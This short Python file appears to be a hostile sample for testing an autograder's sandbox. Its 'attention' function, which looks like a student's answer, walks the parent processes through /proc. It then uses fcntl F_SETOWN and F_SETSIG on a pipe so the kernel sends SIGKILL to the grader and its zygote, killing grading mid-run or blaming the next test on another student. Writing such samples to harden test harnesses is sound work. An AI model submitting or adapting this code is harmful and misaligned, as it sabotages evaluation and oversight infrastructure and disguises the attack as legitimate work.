"""Hostile: has the kernel signal the grader for it (F_SETOWN + F_SETSIG on a pipe), which no kill() call would.

It makes every process above it the owner of a pipe in turn, asks for SIGKILL when the pipe is
ready, and writes to it. Where that works, the grader dies mid-run (or the zygote does, and the
next test blames the student); where it is refused, grading goes on and this file scores 0.
"""

import fcntl
import os
from pathlib import Path

F_SETSIG = 10
SIGKILL = 9


def _ancestors():
    pid = os.getppid()
    for _ in range(6):
        if pid <= 1:
            return
        yield pid
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


def attention(query, key, value, dropout=None, mask=None):
    refused = []
    for pid in reversed(list(_ancestors())):  # the grader first, the zygote last
        read, write = os.pipe()
        try:
            fcntl.fcntl(read, fcntl.F_SETOWN, pid)
            fcntl.fcntl(read, F_SETSIG, SIGKILL)
            fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(write, b"x")
        except OSError as error:
            refused.append(f"{pid}: {error}")
        finally:
            os.close(read)
            os.close(write)
    raise RuntimeError(f"KIT_HOSTILE_MARKER refused: {refused}")
